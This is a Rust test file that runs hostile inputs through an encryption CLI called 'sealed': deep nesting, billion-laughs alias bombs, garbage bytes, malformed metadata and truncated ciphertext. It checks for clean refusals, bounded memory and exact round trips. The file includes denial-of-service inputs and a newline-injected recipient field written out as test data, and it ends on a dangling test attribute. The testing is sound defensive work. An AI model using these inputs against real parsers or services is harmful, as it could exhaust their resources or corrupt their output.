//! Hostile input through the real binary: deep nesting, huge values, alias bombs, binary
//! garbage, invalid UTF-8, NUL bytes, empty files, huge or garbage `sops` blocks and
//! truncated ciphertext, for `encrypt` and `decrypt` in every syntax where it applies.
//!
//! Every run is guarded: the child runs under `timeout` (killed after [`GUARD_SECS`] and the
//! test fails), with the default 8 MiB main-thread stack, and under `/usr/bin/time` when it
//! is installed so that its peak RSS can be bounded. Whatever the input, sealed must either
//! handle it (and then `decrypt(encrypt(x)) == x`) or refuse it cleanly: an exit code that
//! is neither a panic (101) nor a signal, nothing on stdout, exactly one line on stderr
//! that names the file, and with `-i` the file untouched and no file left beside it.
//!
//! Inputs are generated (never committed). Debug builds (`cargo test`, CI) use smaller big
//! inputs (1 MB instead of 20 MB, a tenth of the lines): unoptimised, the YAML scanner needs
//! ~40 s for 20 MB. `cargo test --release` runs them full size.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

/// Seconds after which a child is killed and the test fails.
const GUARD_SECS: u32 = 20;

/// Full-size inputs with optimisations; a tenth in debug builds.
const SCALE: usize = if cfg!(debug_assertions) { 10 } else { 1 };

/// The size of "a 20 MB value" (1 MB in debug builds, whose YAML scanner is ~20× slower).
const BIG_VALUE: usize = if cfg!(debug_assertions) {
    1_000_000
} else {
    20_000_000
};

/// Nesting depth of the deep documents (the parsers' limit is 1000).
const DEEP: usize = 100_000;

// ---------------------------------------------------------------------------------------
// Harness
// ---------------------------------------------------------------------------------------

/// What one guarded run of the binary did.
struct Outcome {
    code: i32,
    stdout: Vec<u8>,
    stderr: String,
    /// Peak resident set size in KiB, when `/usr/bin/time` is installed.
    rss_kb: Option<u64>,
    what: String,
}

impl Outcome {
    fn ok(&self) -> bool {
        self.code == 0
    }

    /// The invariants of every run: no panic, no signal, no timeout, no backtrace.
    fn assert_sane(&self) {
        assert!(
            self.code != 124,
            "{}: still running after {GUARD_SECS} s (killed)",
            self.what
        );
        assert!(self.code != 101, "{}: panicked (exit 101)", self.what);
        // 128 is SOPS's "no key" code; 128+N is death by signal N (stack overflow aborts).
        assert!(
            !(125..=127).contains(&self.code) && !(129..=192).contains(&self.code),
            "{}: killed by a signal or not run (exit {}); stderr: {}",
            self.what,
            self.code,
            first_line(&self.stderr)
        );
        for bad in [
            "panicked",
            "overflowed its stack",
            "RUST_BACKTRACE",
            "memory allocation",
        ] {
            assert!(
                !self.stderr.contains(bad),
                "{}: stderr mentions {bad:?}",
                self.what
            );
        }
    }

    /// A clean refusal: non-zero, nothing on stdout, one line on stderr naming `file`.
    fn assert_refused(&self, file: &str) {
        self.assert_sane();
        assert_ne!(self.code, 0, "{}: expected a refusal", self.what);
        assert!(
            self.stdout.is_empty(),
            "{}: {} bytes on stdout after failing",
            self.what,
            self.stdout.len()
        );
        assert_eq!(
            self.stderr.lines().count(),
            1,
            "{}: the error must be one line, got {} lines starting {:?}",
            self.what,
            self.stderr.lines().count(),
            first_line(&self.stderr)
        );
        assert!(
            self.stderr.starts_with("sealed: ") && self.stderr.contains(file),
            "{}: the error must name {file}: {}",
            self.what,
            first_line(&self.stderr)
        );
        assert!(
            self.stderr.len() < 4096,
            "{}: a {}-byte error line is not a clear error",
            self.what,
            self.stderr.len()
        );
    }

    /// Peak RSS stays under `mb` MiB (when it could be measured).
    fn assert_rss_below(&self, mb: u64) {
        if let Some(kb) = self.rss_kb {
            assert!(
                kb < mb * 1024,
                "{}: peak RSS {} MiB, bound {mb} MiB",
                self.what,
                kb / 1024
            );
        }
    }
}

fn first_line(s: &str) -> &str {
    let line = s.lines().next().unwrap_or("");
    &line[..line.floor_char_boundary(300)]
}

/// A private scratch directory with an empty `HOME` and an age identity of its own.
struct Scratch {
    dir: tempfile::TempDir,
    recipient: String,
}

impl Scratch {
    fn new() -> Scratch {
        let dir = tempfile::Builder::new()
            .prefix("sealed-hostile-")
            .tempdir()
            .expect("create a temporary directory");
        std::fs::create_dir(dir.path().join("home")).expect("create HOME");
        let out = Command::new(env!("CARGO_BIN_EXE_sealed"))
            .args(["keygen", "-o"])
            .arg(dir.path().join("key.txt"))
            .env_clear()
            .env("HOME", dir.path().join("home"))
            .output()
            .expect("run sealed keygen");
        assert!(out.status.success(), "keygen failed");
        let recipient = String::from_utf8_lossy(&out.stderr)
            .split_whitespace()
            .find(|w| w.starts_with("age1"))
            .expect("keygen prints the public key")
            .to_string();
        Scratch { dir, recipient }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn write(&self, name: &str, data: &[u8]) -> PathBuf {
        let p = self.path(name);
        std::fs::write(&p, data).expect("write the input");
        p
    }

    /// Runs `sealed ARGS` guarded, in the scratch directory, with a clean environment and
    /// the scratch identity in `SOPS_AGE_KEY_FILE`.
    fn run(&self, args: &[&str]) -> Outcome {
        self.run_with_stdin(args, None)
    }

    /// [`Scratch::run`] with standard input read from a file of the scratch directory.
    fn run_with_stdin(&self, args: &[&str], stdin: Option<&str>) -> Outcome {
        let rss_file = tempfile::NamedTempFile::new_in(self.dir.path()).expect("rss file");
        let timer = Path::new("/usr/bin/time");
        let mut cmd = if timer.exists() {
            let mut c = Command::new(timer);
            c.arg("-f").arg("%M").arg("-o").arg(rss_file.path());
            c.arg("timeout");
            c
        } else {
            static NOTICE: std::sync::Once = std::sync::Once::new();
            NOTICE.call_once(|| {
                eprintln!("notice: /usr/bin/time is not installed; peak RSS is not bounded")
            });
            Command::new("timeout")
        };
        // The default 8 MiB stack, whatever the test runner was given.
        cmd.args(["-k", "5", &GUARD_SECS.to_string(), "sh", "-c"])
            .arg("ulimit -s 8192 2>/dev/null; exec \"$0\" \"$@\"")
            .arg(env!("CARGO_BIN_EXE_sealed"))
            .args(args)
            .current_dir(self.dir.path())
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .env("HOME", self.path("home"))
            .env("SOPS_AGE_KEY_FILE", self.path("key.txt"));
        cmd.stdin(match stdin {
            Some(name) => std::fs::File::open(self.path(name))
                .expect("stdin file")
                .into(),
            None => std::process::Stdio::null(),
        });
        let out = cmd.output().expect("run sealed");
        let rss_kb = std::fs::read_to_string(rss_file.path())
            .ok()
            .and_then(|s| s.lines().last().and_then(|l| l.trim().parse().ok()));
        Outcome {
            code: out.status.code().unwrap_or(-1),
            stdout: out.stdout,
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
            rss_kb,
            what: format!("sealed {}", args.join(" ")),
        }
    }

    fn encrypt(&self, name: &str) -> Outcome {
        self.run(&["encrypt", "--age", &self.recipient, name])
    }

    fn decrypt(&self, name: &str) -> Outcome {
        self.run(&["decrypt", name])
    }

    /// The names in the directory (to spot stray files).
    fn listing(&self) -> Vec<String> {
        let mut v: Vec<String> = std::fs::read_dir(self.dir.path())
            .expect("list")
            .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
            .filter(|n| !n.starts_with(".tmp"))
            .collect();
        v.sort();
        v
    }

    /// `input` (written as `name`) must be refused by `verb`, on stdout and with `-i`
    /// (file unchanged, nothing left beside it).
    fn assert_refused(&self, verb: &str, name: &str, input: &[u8]) -> Outcome {
        self.write(name, input);
        let out = match verb {
            "encrypt" => self.encrypt(name),
            _ => self.decrypt(name),
        };
        out.assert_refused(name);
        let before = self.listing();
        let in_place = match verb {
            "encrypt" => self.run(&["encrypt", "-i", "--age", &self.recipient, name]),
            _ => self.run(&["decrypt", "-i", name]),
        };
        in_place.assert_refused(name);
        assert!(
            std::fs::read(self.path(name)).expect("read back") == input,
            "{}: the file changed although the command failed",
            in_place.what
        );
        assert_eq!(self.listing(), before, "{}: stray files", in_place.what);
        out
    }

    /// `input` is either refused cleanly by encrypt, or encrypted; then decrypting gives
    /// back exactly `input`. Returns whether it was accepted.
    fn assert_handled(&self, name: &str, input: &[u8]) -> bool {
        self.write(name, input);
        let enc = self.encrypt(name);
        enc.assert_sane();
        if !enc.ok() {
            enc.assert_refused(name);
            return false;
        }
        let enc_name = format!("enc.{name}");
        self.write(&enc_name, &enc.stdout);
        let dec = self.run(&["decrypt", "--input-type", syntax_of(name), &enc_name]);
        assert!(
            dec.ok(),
            "{}: sealed cannot decrypt what it encrypted: {}",
            dec.what,
            first_line(&dec.stderr)
        );
        assert!(
            dec.stdout == input,
            "{}: decrypt(encrypt(x)) != x ({} bytes vs {})",
            dec.what,
            dec.stdout.len(),
            input.len()
        );
        true
    }
}

fn syntax_of(name: &str) -> &'static str {
    if name.ends_with(".json") {
        "json"
    } else if name.ends_with(".env") {
        "dotenv"
    } else {
        "yaml"
    }
}

/// Deterministic pseudo-random bytes (xorshift), so a failure can be replayed.
fn noise(len: usize, mut seed: u64) -> Vec<u8> {
    let mut out = Vec::with_capacity(len + 8);
    while out.len() < len {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        out.extend_from_slice(&seed.to_le_bytes());
    }
    out.truncate(len);
    out
}

/// Appends a well-formed `sops` block (one age entry, a MAC) taken from a real encryption,
/// so decrypt gets past "not encrypted" and reaches the hostile part.
fn sops_block(s: &Scratch) -> String {
    s.write("meta-src.yaml", b"k: v\n");
    let out = s.encrypt("meta-src.yaml");
    assert!(out.ok(), "encrypting the metadata source failed");
    let text = String::from_utf8(out.stdout).expect("UTF-8");
    text[text.find("sops:").expect("has a sops block")..].to_string()
}

// ---------------------------------------------------------------------------------------
// Deep nesting
// ---------------------------------------------------------------------------------------

#[test]
fn yaml_flow_nesting_100k_deep_is_refused() {
    let s = Scratch::new();
    let cases: [(&str, String); 4] = [
        (
            "seq.yaml",
            format!("a: {}{}\n", "[".repeat(DEEP), "]".repeat(DEEP)),
        ),
        ("unclosed.yaml", format!("a: {}\n", "[".repeat(DEEP))),
        (
            "map.yaml",
            format!("a: {}1{}\n", "{a: ".repeat(DEEP), "}".repeat(DEEP)),
        ),
        (
            "top.yaml",
            format!("{}{}\n", "{a: [".repeat(DEEP / 2), "]}".repeat(DEEP / 2)),
        ),
    ];
    for (name, doc) in cases {
        for verb in ["encrypt", "decrypt"] {
            let out = s.assert_refused(verb, name, doc.as_bytes());
            out.assert_rss_below(64);
            if verb == "encrypt" {
                assert!(out.stderr.contains(&format!("{name}:1:")), "{}", out.stderr);
            }
        }
    }
}

#[test]
fn yaml_block_nesting_is_refused() {
    let s = Scratch::new();
    // Block sequences nest on one line: `- - - … x`, 100 000 deep.
    let seqs = format!("a:\n{}x\n", "- ".repeat(DEEP));
    // Block mappings need one more column per level, so 100 000 levels would be a 5 GB
    // file; 2 000 levels (2 MB) are twice the parser's limit.
    let maps: String = (0..2000)
        .map(|i| format!("{}k:\n", " ".repeat(i)))
        .collect();
    for (name, doc) in [("seqs.yaml", seqs), ("maps.yaml", maps)] {
        for verb in ["encrypt", "decrypt"] {
            s.assert_refused(verb, name, doc.as_bytes())
                .assert_rss_below(128);
        }
    }
}

#[test]
fn yaml_explicit_keys_100k_deep_are_handled() {
    // `? ? ? … x`: a complex key nested 100 000 deep. Keys are never encrypted; sealed may
    // keep it (then byte for byte) or refuse it, but must not crash.
    let s = Scratch::new();
    let doc = format!("{}x\nb: secret-value\n", "? ".repeat(DEEP));
    s.assert_handled("keys.yaml", doc.as_bytes());
}

#[test]
fn json_nesting_100k_deep_is_refused() {
    let s = Scratch::new();
    let cases = [
        (
            "arrays.json",
            format!("{{\"a\": {}{}}}", "[".repeat(DEEP), "]".repeat(DEEP)),
        ),
        (
            "objects.json",
            format!(
                "{{\"a\": {}1{}}}",
                "{\"a\": ".repeat(DEEP),
                "}".repeat(DEEP)
            ),
        ),
        (
            "unclosed.json",
            format!("{{\"a\": {}", "[{\"b\": ".repeat(DEEP)),
        ),
        (
            "in-sops.json",
            format!(
                "{{\"a\": 1, \"sops\": {}{}}}",
                "[".repeat(DEEP),
                "]".repeat(DEEP)
            ),
        ),
    ];
    for (name, doc) in cases {
        for verb in ["encrypt", "decrypt"] {
            s.assert_refused(verb, name, doc.as_bytes())
                .assert_rss_below(64);
        }
    }
}

#[test]
fn deep_nesting_inside_the_sops_block_is_refused() {
    let s = Scratch::new();
    let flow = format!("a: 1\nsops: {}\n", "[".repeat(DEEP));
    let block: String = std::iter::once("a: 1\nsops:\n".to_string())
        .chain((1..1500).map(|i| format!("{}k:\n", " ".repeat(i))))
        .collect();
    for (name, doc) in [("flow.yaml", flow), ("block.yaml", block)] {
        s.assert_refused("decrypt", name, doc.as_bytes());
    }
}

// ---------------------------------------------------------------------------------------
// Big inputs
// ---------------------------------------------------------------------------------------

/// Encrypts and decrypts a document holding one [`BIG_VALUE`]-byte value, bounding RSS.
fn big_value_roundtrip(name: &str, doc: String) {
    let s = Scratch::new();
    s.write(name, doc.as_bytes());
    let enc = s.encrypt(name);
    assert!(enc.ok(), "{}: {}", enc.what, first_line(&enc.stderr));
    // Input, ciphertext (4/3) and a few working copies: measured ~8× the value.
    let bound = 16 * BIG_VALUE as u64 / 1_000_000 + 64;
    enc.assert_rss_below(bound);
    let enc_name = format!("enc.{name}");
    s.write(&enc_name, &enc.stdout);
    drop(enc);
    let dec = s.run(&["decrypt", "--input-type", syntax_of(name), &enc_name]);
    assert!(dec.ok(), "{}: {}", dec.what, first_line(&dec.stderr));
    dec.assert_rss_below(bound);
    assert!(dec.stdout == doc.as_bytes(), "{}: not byte-exact", dec.what);
}

#[test]
fn a_20_mb_yaml_value_roundtrips_in_bounded_memory() {
    let value = "x".repeat(BIG_VALUE);
    big_value_roundtrip("big.yaml", format!("a: {value}\nb: small\n"));
}

#[test]
fn a_20_mb_json_value_roundtrips_in_bounded_memory() {
    let value = "x".repeat(BIG_VALUE);
    big_value_roundtrip("big.json", format!("{{\"a\": \"{value}\", \"b\": 1}}\n"));
}

#[test]
fn a_20_mb_env_value_roundtrips_in_bounded_memory() {
    let value = "x".repeat(BIG_VALUE);
    big_value_roundtrip("big.env", format!("A={value}\nB=small\n"));
}

#[test]
fn a_100k_line_env_file_roundtrips_in_bounded_memory() {
    let s = Scratch::new();
    let lines = 100_000 / SCALE;
    let doc: String = (0..lines)
        .map(|i| format!("KEY_{i}=value-{i} # note {i}\n"))
        .collect();
    s.write("lines.env", doc.as_bytes());
    let enc = s.encrypt("lines.env");
    assert!(enc.ok(), "{}", first_line(&enc.stderr));
    enc.assert_rss_below(256);
    s.write("enc.lines.env", &enc.stdout);
    let dec = s.decrypt("enc.lines.env");
    assert!(dec.ok(), "{}", first_line(&dec.stderr));
    dec.assert_rss_below(256);
    assert!(dec.stdout == doc.as_bytes());
}

#[test]
fn very_long_lines_roundtrip() {
    let s = Scratch::new();
    let n = 100_000 / SCALE;
    let flow = format!(
        "m: {{{}}}\n",
        (0..n)
            .map(|i| format!("k{i}: v{i}"))
            .collect::<Vec<_>>()
            .join(", ")
    );
    let json = format!(
        "{{{}}}",
        (0..n)
            .map(|i| format!("\"k{i}\":\"v{i}\""))
            .collect::<Vec<_>>()
            .join(",")
    );
    let comment = format!("a: 1 #{}\n", "c".repeat(BIG_VALUE / 4));
    let key = format!("{}: v\n", "k".repeat(1000));
    for (name, doc) in [
        ("flow.yaml", flow),
        ("minified.json", json),
        ("comment.yaml", comment),
        ("key.yaml", key),
    ] {
        assert!(s.assert_handled(name, doc.as_bytes()), "{name} refused");
    }
}

#[test]
fn billion_laughs_aliases_are_not_expanded() {
    let s = Scratch::new();
    let mut doc = String::from(
        "a: &a [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\"]\n",
    );
    for i in 1..10u8 {
        let (prev, cur) = ((b'a' + i - 1) as char, (b'a' + i) as char);
        let refs = vec![format!("*{prev}"); 9].join(", ");
        doc.push_str(&format!("{cur}: &{cur} [{refs}]\n"));
    }
    s.write("lol.yaml", doc.as_bytes());
    let enc = s.encrypt("lol.yaml");
    assert!(enc.ok(), "{}", first_line(&enc.stderr));
    enc.assert_rss_below(64);
    assert!(
        enc.stdout.len() < 64 * 1024,
        "the aliases were expanded: {} bytes",
        enc.stdout.len()
    );
    s.write("enc.lol.yaml", &enc.stdout);
    let dec = s.decrypt("enc.lol.yaml");
    assert!(dec.ok() && dec.stdout == doc.as_bytes());

    // The same bomb inside the metadata block, where aliases are expanded (with a budget).
    let mut meta =
        String::from("a: 1\nsops:\n  x0: &x0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for i in 1..12 {
        meta.push_str(&format!(
            "  x{i}: &x{i} [{}]\n",
            vec![format!("*x{}", i - 1); 10].join(", ")
        ));
    }
    s.assert_refused("decrypt", "bomb.yaml", meta.as_bytes())
        .assert_rss_below(128);
}

// ---------------------------------------------------------------------------------------
// Garbage, encodings, empty files
// ---------------------------------------------------------------------------------------

#[test]
fn binary_garbage_is_refused() {
    let s = Scratch::new();
    for (i, name) in ["g.yaml", "g.json", "g.env"].iter().enumerate() {
        let junk = noise(100_000, 0x9e37_79b9_7f4a_7c15 + i as u64);
        for verb in ["encrypt", "decrypt"] {
            s.assert_refused(verb, name, &junk);
        }
    }
}

#[test]
fn printable_garbage_is_handled_or_refused() {
    let s = Scratch::new();
    for seed in 1..=6u64 {
        // Valid UTF-8 made of YAML/JSON punctuation, letters and line breaks.
        let alphabet = b"{}[]:,-?&*!|>'\"#%@` \t\r\nab1=.\\";
        let text: Vec<u8> = noise(4000, seed)
            .iter()
            .map(|b| alphabet[*b as usize % alphabet.len()])
            .collect();
        for ext in ["yaml", "json", "env"] {
            let name = format!("p{seed}.{ext}");
            s.assert_handled(&name, &text);
            s.write(&name, &text);
            let dec = s.decrypt(&name);
            if !dec.ok() {
                dec.assert_refused(&name);
            }
        }
    }
}

#[test]
fn invalid_utf8_is_refused_with_its_position() {
    let s = Scratch::new();
    for (name, doc) in [
        ("u.yaml", &b"a: ok\nb: caf\xe9\n"[..]),
        ("u.json", &b"{\"a\": \"ok\",\n \"b\": \"caf\xe9\"}"[..]),
        ("u.env", &b"A=ok\nB=caf\xe9\n"[..]),
        ("overlong.yaml", &b"a: \xc0\xaf\n"[..]),
        ("surrogate.yaml", &b"a: \xed\xa0\x80\n"[..]),
    ] {
        for verb in ["encrypt", "decrypt"] {
            let out = s.assert_refused(verb, name, doc);
            assert!(
                out.stderr.contains("UTF-8") && out.stderr.contains(&format!("{name}:")),
                "{}",
                out.stderr
            );
        }
    }
    let out = s.assert_refused("encrypt", "u.yaml", b"a: ok\nb: caf\xe9\n");
    assert!(out.stderr.contains("u.yaml:2:"), "{}", out.stderr);
}

#[test]
fn nul_bytes_are_refused_or_kept() {
    let s = Scratch::new();
    // YAML and JSON forbid a raw NUL; .env has no such rule, so it must survive intact.
    s.assert_refused("encrypt", "n.yaml", b"a: x\x00y\n");
    s.assert_refused("encrypt", "n.json", b"{\"a\": \"x\x00y\"}");
    s.assert_refused("encrypt", "n2.json", b"{\"a\":\x00 1}");
    assert!(s.assert_handled("n.env", b"A=x\x00y\nB=\x00\n"));
    for name in ["n.yaml", "n.json"] {
        s.assert_refused("decrypt", name, &std::fs::read(s.path(name)).unwrap());
    }
}

#[test]
fn empty_files_are_refused_or_handled_as_sops_does() {
    let s = Scratch::new();
    for content in [
        &b""[..],
        b"\n",
        b"   \n\n",
        b"\xef\xbb\xbf",
        b"# only a comment\n",
    ] {
        for name in ["e.yaml", "e.json", "e.env"] {
            for verb in ["encrypt", "decrypt"] {
                // sops encrypts a .env file without variables (empty, blank or comment
                // lines), and so does sealed; a BOM alone on a line is refused (sops too).
                if name == "e.env" && verb == "encrypt" && !content.starts_with(b"\xef") {
                    assert!(s.assert_handled(name, content));
                } else {
                    s.assert_refused(verb, name, content);
                }
            }
        }
    }
}

// ---------------------------------------------------------------------------------------
// Hostile `sops` blocks and truncated ciphertext
// ---------------------------------------------------------------------------------------

#[test]
fn garbage_sops_fields_are_refused() {
    let s = Scratch::new();
    let body = "a: ENC[AES256_GCM,data:AAAA,iv:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=,tag:AAAAAAAAAAAAAAAAAAAAAA==,type:str]\n";
    let real = sops_block(&s);
    let cases = [
        "sops: garbage\n".to_string(),
        "sops: [1, 2]\n".to_string(),
        "sops:\n    age: \"x\"\n    mac: 1\n    lastmodified: [1]\n    version: {a: b}\n"
            .to_string(),
        "sops:\n    shamir_threshold: 99999999999999999999\n    key_groups: [[], {a: 1}, 7]\n    lastmodified: x\n    mac: y\n".to_string(),
        "sops:\n    key_groups: []\n    shamir_threshold: 0\n    lastmodified: x\n    mac: y\n"
            .to_string(),
        "sops:\n    age: [{recipient: 7, enc: [1]}]\n    lastmodified: x\n    mac: y\n".to_string(),
        real.replace("lastmodified: \"", "lastmodified: \"garbage"),
        real.replace("mac: ENC[AES256_GCM,data:", "mac: ENC[AES256_GCM,data:!!"),
        real.replace("mac: ENC[", "mac: XENC["),
        real.replace("-----BEGIN AGE ENCRYPTED FILE-----", "-----BEGIN GARBAGE-----"),
        real.replace("version: ", "sealed: ENC[AES256_GCM,data:AA==,iv:AA==,tag:AA==,type:str]\n    version: "),
        format!("{real}    unencrypted_regex: \"(((\"\n"),
    ];
    for (i, sops) in cases.iter().enumerate() {
        let name = format!("g{i}.yaml");
        s.assert_refused("decrypt", &name, format!("{body}{sops}").as_bytes());
    }
    let json_cases = [
        r#"{"a": 1, "sops": "x"}"#,
        r#"{"a": 1, "sops": {"age": {"recipient": 1}, "lastmodified": null, "mac": []}}"#,
        r#"{"a": 1, "sops": {"key_groups": [{"age": [null]}], "lastmodified": "x", "mac": "y"}}"#,
    ];
    for (i, doc) in json_cases.iter().enumerate() {
        s.assert_refused("decrypt", &format!("g{i}.json"), doc.as_bytes());
    }
    let env_cases = [
        "A=1\nsops_age__list_0__map_recipient=x\n",
        "A=1\nsops_lastmodified=x\nsops_mac=y\nsops_age__list_x__map_enc=z\n",
        "A=1\nsops_version=1\nsops_shamir_threshold=-1\nsops_lastmodified=2020-01-01T00:00:00Z\nsops_mac=ENC[]\n",
    ];
    for (i, doc) in env_cases.iter().enumerate() {
        s.assert_refused("decrypt", &format!("g{i}.env"), doc.as_bytes());
    }
}

#[test]
fn huge_sops_entries_are_refused_in_bounded_time() {
    let s = Scratch::new();
    let real = sops_block(&s);
    let body = "a: ENC[AES256_GCM,data:AAAA,iv:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=,tag:AAAAAAAAAAAAAAAAAAAAAA==,type:str]\n";
    let tail = &real[real.find("    lastmodified").expect("lastmodified")..];
    // A 10 MB `enc` that is not armored at all.
    let flat = format!(
        "{body}sops:\n    age:\n        - recipient: age1x\n          enc: {}\n{tail}",
        "A".repeat(BIG_VALUE / 2)
    );
    s.assert_refused("decrypt", "flat.yaml", flat.as_bytes())
        .assert_rss_below(256);
    // A 4 MB MAC token.
    let mac = real.replace(
        "mac: ENC[AES256_GCM,data:",
        &format!("mac: ENC[AES256_GCM,data:{}", "A".repeat(BIG_VALUE / 5)),
    );
    s.assert_refused("decrypt", "mac.yaml", format!("{body}{mac}").as_bytes())
        .assert_rss_below(256);
    // Many age entries (the error lists them all: see many_recipients_give_a_short_error).
    let many: String = (0..200)
        .map(|_| "        - recipient: age1x\n          enc: x\n")
        .collect();
    let entries = format!("{body}sops:\n    age:\n{many}{tail}");
    s.assert_refused("decrypt", "entries.yaml", entries.as_bytes());
}

/// An armored `enc` entry whose age header is `lines` lines of 64 characters.
fn long_age_header(lines: usize) -> String {
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD_NO_PAD;
    let mut header = String::from("age-encryption.org/v1\n-> X25519 ");
    header.push_str(&b64.encode(noise(32, 1)));
    header.push('\n');
    let body = b64.encode(noise(48 * lines, 2));
    for chunk in body.as_bytes().chunks(64) {
        header.push_str(std::str::from_utf8(chunk).unwrap());
        header.push('\n');
    }
    header.push_str(&format!("--- {}\n", b64.encode(noise(32, 3))));
    let mut raw = header.into_bytes();
    raw.extend(noise(64, 4));
    let armored = base64::engine::general_purpose::STANDARD.encode(raw);
    let mut out = String::from("|\n            -----BEGIN AGE ENCRYPTED FILE-----\n");
    for chunk in armored.as_bytes().chunks(64) {
        out.push_str("            ");
        out.push_str(std::str::from_utf8(chunk).unwrap());
        out.push('\n');
    }
    out.push_str("            -----END AGE ENCRYPTED FILE-----\n");
    out
}

#[test]
fn a_long_age_header_is_refused_in_bounded_time() {
    let s = Scratch::new();
    let real = sops_block(&s);
    let tail = &real[real.find("    lastmodified").expect("lastmodified")..];
    let recipient = s.recipient.clone();
    let doc = format!(
        "a: ENC[AES256_GCM,data:AAAA,iv:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=,tag:AAAAAAAAAAAAAAAAAAAAAA==,type:str]\nsops:\n    age:\n        - recipient: {recipient}\n          enc: {}{tail}",
        long_age_header(20_000)
    );
    s.assert_refused("decrypt", "header.yaml", doc.as_bytes());
}

#[test]
fn many_recipients_give_a_short_error() {
    let s = Scratch::new();
    let real = sops_block(&s);
    let tail = &real[real.find("    lastmodified").expect("lastmodified")..];
    let many: String = (0..100_000)
        .map(|_| "        - recipient: age1x\n          enc: x\n")
        .collect();
    let doc = format!(
        "a: ENC[AES256_GCM,data:AAAA,iv:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=,tag:AAAAAAAAAAAAAAAAAAAAAA==,type:str]\nsops:\n    age:\n{many}{tail}"
    );
    let out = s.assert_refused("decrypt", "many.yaml", doc.as_bytes());
    assert!(
        out.stderr.contains("and 99995 more"),
        "{}",
        first_line(&out.stderr)
    );
    // A few huge recipients, one with line breaks: still one short line.
    let huge: String = (0..3)
        .map(|_| {
            format!(
                "        - recipient: \"age1{}\\nsealed: injected\"\n          enc: x\n",
                "x".repeat(100_000)
            )
        })
        .collect();
    let doc = format!(
        "a: ENC[AES256_GCM,data:AAAA,iv:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=,tag:AAAAAAAAAAAAAAAAAAAAAA==,type:str]\nsops:\n    age:\n{huge}{tail}"
    );
    s.assert_refused("decrypt", "huge.yaml", doc.as_bytes());
}

#[test]
fn long_key_paths_times_many_values_stay_bounded() {
    // Each value's additional data is its whole key path (SOPS's format), so the time is
    // bound to be (key length × values); memory must not be. 1 000 values under a 100 KB
    // key needed ~200 MB when every value held its own copy of the path (more than three
    // times the bound below), and take a few seconds of CPU in a debug build: few enough
    // for the test's time limit on a busy machine.
    let s = Scratch::new();
    let n = 1_000;
    let json = format!(
        "{{\"{}\": {{{}}}}}",
        "K".repeat(100_000),
        (0..n)
            .map(|i| format!("\"a{i}\": \"x\""))
            .collect::<Vec<_>>()
            .join(",")
    );
    s.write("paths.json", json.as_bytes());
    let out = s.encrypt("paths.json");
    out.assert_sane();
    out.assert_rss_below(64);
}

/// Where sealed's own `sealed` metadata field starts in an encrypted file, if it has one.
fn sealed_field_at(full: &[u8]) -> Option<usize> {
    [&b"\n    sealed: "[..], b"\"sealed\":", b"\nsops_sealed="]
        .iter()
        .find_map(|needle| full.windows(needle.len()).position(|w| w == *needle))
}

#[test]
fn deep_long_keys_read_as_a_tree_stay_bounded() {
    // exec and --extract build the values' tree from the ciphertext's outline, whose nodes
    // each hold their whole path: 400 levels of 1 000-byte keys took ~190 MB that way
    // (against ~25 MB to decrypt), so past a budget the plaintext is parsed instead.
    let s = Scratch::new();
    let mut doc = String::new();
    for d in 0..400 {
        doc.push_str(&format!("{}k{d}{}:\n", " ".repeat(d), "K".repeat(1000)));
    }
    doc.push_str(&format!("{}v: x\n", " ".repeat(400)));
    s.write("deep.yaml", doc.as_bytes());
    let enc = s.encrypt("deep.yaml");
    enc.assert_sane();
    s.write("enc.yaml", &enc.stdout);
    let out = s.run(&["decrypt", "--output-type", "json", "enc.yaml"]);
    out.assert_sane();
    assert!(out.ok(), "{}: {}", out.what, first_line(&out.stderr));
    out.assert_rss_below(64);
}

#[test]
fn truncated_ciphertext_is_refused_or_exact() {
    let s = Scratch::new();
    let docs = [
        (
            "t.yaml",
            "db:\n  user: admin # who\n  password: demo-secret-1\nlist:\n  - a\n  - b\nport: 5432\n",
        ),
        (
            "t.json",
            "{\n  \"db\": {\"user\": \"admin\", \"password\": \"demo-secret-1\"},\n  \"n\": [1, 2.5, true]\n}\n",
        ),
        (
            "t.env",
            "# c\nUSER=admin\nPASSWORD=demo-secret-1\nexport N=5\n",
        ),
    ];
    for (name, plain) in docs {
        s.write(name, plain.as_bytes());
        let enc = s.encrypt(name);
        assert!(enc.ok(), "{}", first_line(&enc.stderr));
        let full = enc.stdout;
        // Canonical spellings only: the `sealed` field holds the layout digest alone (a
        // cut that removes it reads the file without an authenticated layout, with the
        // same data: see removing_the_sealed_field_changes_the_spelling_not_the_data).
        let cut_name = format!("cut.{name}");
        // ~40 cuts spread over the file, plus the last few bytes one by one.
        let step = (full.len() / 40).max(1);
        let cuts: Vec<usize> = (0..full.len())
            .step_by(step)
            .chain(full.len().saturating_sub(4)..full.len())
            .collect();
        for cut in cuts {
            let truncated = &full[..cut];
            s.write(&cut_name, truncated);
            let out = s.run(&["decrypt", "--input-type", syntax_of(name), &cut_name]);
            if out.ok() {
                // Only the final line break may go (it belongs to the metadata's layout).
                // A cut inside the last line (`version`) is refused, like sops does (T1).
                // A cut into the `sealed` field (it comes last) leaves the file without an
                // authenticated layout: the same data, but what follows the metadata (a
                // space left of that line) is kept as written.
                let plain = plain.as_bytes();
                let layout_cut = sealed_field_at(&full).is_some_and(|at| cut > at);
                assert!(
                    out.stdout == plain
                        || out.stdout == plain[..plain.len() - 1]
                        || (layout_cut && out.stdout.trim_ascii_end() == plain.trim_ascii_end()),
                    "{name} cut at {cut}/{}: decrypted to something else",
                    full.len()
                );
            } else {
                out.assert_refused(&cut_name);
            }
        }
    }
}

#[test]
